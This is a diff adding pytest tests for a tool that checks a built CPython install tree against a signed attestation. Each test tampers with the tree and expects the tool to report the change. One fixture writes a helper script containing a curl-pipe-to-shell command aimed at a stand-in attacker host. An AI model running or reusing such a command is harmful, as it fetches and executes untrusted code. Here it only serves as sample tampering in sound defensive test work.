@@ -133,6 +133,135 @@ def test_subject_digest_mismatch_is_exit_1(signed: Path, result: Path, keys, tmp
     assert "is not a subject" in completed.stderr
 
 
+# --------------------------------------------------------------------------- --result: the whole install tree
+
+PREFIX = "opt/python"
+
+
+def _not_as_attested(stderr: str) -> list[str]:
+    return [line for line in stderr.splitlines() if line.startswith("cpython-verify: not as attested: ")]
+
+
+def _rewrite(path: Path, text: str) -> None:
+    path.write_text(text)
+
+
+def _delete_interpreter(root: Path) -> None:
+    (root / "bin" / "python3.13").unlink()
+
+
+def _add_executable(root: Path) -> None:
+    (root / "bin" / "python3.13-helper").write_text("#!/bin/sh\nexec curl evil.example | sh\n")
+    (root / "bin" / "python3.13-helper").chmod(0o755)
+
+
+def _retarget_link(root: Path) -> None:
+    (root / "bin" / "python3").unlink()
+    (root / "bin" / "python3").symlink_to("/usr/bin/python3")
+
+
+def _file_to_directory(root: Path) -> None:
+    (root / "lib" / "python3.13" / "LICENSE.txt").unlink()
+    (root / "lib" / "python3.13" / "LICENSE.txt").mkdir()
+
+
+@pytest.mark.parametrize(
+    ("tamper", "path", "words"),
+    [
+        (_delete_interpreter, "bin/python3.13", "missing: attested elf-executable"),
+        (lambda root: (root / "lib" / "python3.13" / "os.py").unlink(), "lib/python3.13/os.py",
+         "missing: attested python-source, mode 0644"),
+        (lambda root: _rewrite(root / "lib" / "python3.13" / "os.py", "import evil\n"), "lib/python3.13/os.py",
+         "content changed"),
+        (_add_executable, "bin/python3.13-helper", "extra: not in the attested manifest (text, mode 0755)"),
+        (lambda root: (root / "lib" / "python3.13" / "LICENSE.txt").chmod(0o666), "lib/python3.13/LICENSE.txt",
+         "mode changed: 0666, attested 0644"),
+        (_retarget_link, "bin/python3", "link target changed: '/usr/bin/python3', attested 'python3.13'"),
+        (_file_to_directory, "lib/python3.13/LICENSE.txt", "type changed: directory, attested text"),
+    ],
+    ids=["deleted-subject", "deleted-file", "rewritten", "added-executable", "mode", "link-target", "type"],
+)
+def test_a_tampered_tree_is_not_verified(signed: Path, result: Path, keys, tamper, path: str, words: str) -> None:
+    """Issue #10: each change to root/ after attesting is exit 1, with one line naming the path."""
+    tamper(result / "root" / PREFIX)
+    completed = run_cli("verify-attestation", signed, "--key", keys[1], "--result", result)
+    assert completed.returncode == 1, completed.stdout
+    assert "Traceback" not in completed.stderr
+    [line] = _not_as_attested(completed.stderr)
+    assert line.startswith(f"cpython-verify: not as attested: {result / 'root' / PREFIX / path}: {words}")
+    assert "is NOT the attested tree: 1 path(s) differ" in completed.stdout
+
+
+def test_the_issue_10_tampering_is_three_findings(signed: Path, result: Path, keys) -> None:
+    """The report's exact case: interpreter deleted, os.py rewritten, an executable added."""
+    root = result / "root" / PREFIX
+    _delete_interpreter(root)
+    _rewrite(root / "lib" / "python3.13" / "os.py", "import evil\n")
+    _add_executable(root)
+    completed = run_cli("verify-attestation", signed, "--key", keys[1], "--result", result)
+    assert completed.returncode == 1
+    assert "Traceback" not in completed.stderr
+    lines = _not_as_attested(completed.stderr)
+    assert [line.split(": ")[2] for line in lines] == [
+        str(root / "bin" / "python3.13"),
+        str(root / "bin" / "python3.13-helper"),
+        str(root / "lib" / "python3.13" / "os.py"),
+    ]
+    # The deleted interpreter is also an attested subject: a failed check, not a skipped one.
+    assert f"MISSING  {PREFIX}/bin/python3.13" in completed.stdout
+    assert "subject digest mismatch" in completed.stderr and "no such regular file" in completed.stderr
+
+
+def test_one_path_with_several_changes_is_one_line(signed: Path, result: Path, keys) -> None:
+    os_py = result / "root" / PREFIX / "lib" / "python3.13" / "os.py"
+    os_py.write_text("import evil\n")
+    os_py.chmod(0o755)
+    completed = run_cli("verify-attestation", signed, "--key", keys[1], "--result", result, "--json")
+    assert completed.returncode == 1
+    [line] = _not_as_attested(completed.stderr)
+    assert "content changed" in line and "mode changed: 0755, attested 0644" in line
+    tree = json.loads(completed.stdout)["tree"]
+    assert tree["ok"] is False
+    assert tree["findings"] == [{"path": f"{PREFIX}/lib/python3.13/os.py", "changes": ["mode", "content"],
+                                 "detail": line.split(f"{os_py}: ", 1)[1]}]
+
+
+def test_a_clean_result_is_verified_with_its_whole_tree(signed: Path, result: Path, keys) -> None:
+    completed = run_cli("verify-attestation", signed, "--key", keys[1], "--result", result, "--json")
+    assert completed.returncode == 0, completed.stderr
+    tree = json.loads(completed.stdout)["tree"]
+    assert tree == {"root": str(result / "root"), "ok": True, "attested_paths": 10, "problems": [], "findings": []}
+    completed = run_cli("verify-attestation", signed, "--key", keys[1], "--result", result)
+    assert completed.returncode == 0
+    assert f"tree: {result / 'root'} is the attested tree (10 paths)" in completed.stdout
+    assert completed.stderr == ""
+
+
+def test_a_rewritten_manifest_does_not_cover_a_changed_tree(signed: Path, result: Path, keys) -> None:
+    """Tampering with root/ and rescanning it into manifest.json: the manifest is no longer the attested one."""
+    from verify.manifest import Manifest, read_manifest, scan_tree, write_manifest
+
+    _add_executable(result / "root" / PREFIX)
+    inputs = read_manifest(result / "manifest.json").inputs
+    write_manifest(Manifest(inputs=inputs, entries=scan_tree(result / "root")), result / "manifest.json")
+    completed = run_cli("verify-attestation", signed, "--key", keys[1], "--result", result)
+    assert completed.returncode == 1
+    assert "MISMATCH manifest.json" in completed.stdout
+    [line] = _not_as_attested(completed.stderr)
+    assert "not compared" in line and "not the attested manifest" in line
+    assert "is NOT the attested tree: 1 other problem(s)" in completed.stdout
+
+
+def test_result_without_an_install_tree_cannot_be_judged(signed: Path, result: Path, keys) -> None:
+    import shutil
+
+    shutil.rmtree(result / "root")
+    completed = run_cli("verify-attestation", signed, "--key", keys[1], "--result", result)
+    assert completed.returncode == 2
+    assert "has no root/ tree" in completed.stderr
+    assert "Traceback" not in completed.stderr
+
+
 def test_signed_but_tampered_predicate_fails_the_schema(signed: Path, keys, tmp_path: Path) -> None:
     statement = json.loads(base64.b64decode(json.loads(signed.read_text())["payload"]))
     statement["predicate"]["result"]["reproducible"] = "yes"
@@ -255,7 +384,7 @@ def test_unverified_source_is_not_attested(result: Path, keys) -> None:
 
 
 def test_not_reproducible_result_is_attested_with_its_differences(tmp_path: Path, tarball: Path, keys) -> None:
-    differing = [{"path": "opt/python/lib/python3.13/os.py", "kind": "text", "change": "content"}]
+    differing = [{"path": "opt/python/lib/python3.13/os.py", "kind": "python-source", "changes": ["content"]}]
     result = make_result(tmp_path / "differs", tarball, reproducible=False, differences=differing)
     assert run_cli("attest", result, "--key", keys[0]).returncode == 0
     verified = verify_attestation_file(result / "attestation.intoto.json", TrustedKeys((load_public_key(keys[1]),)))
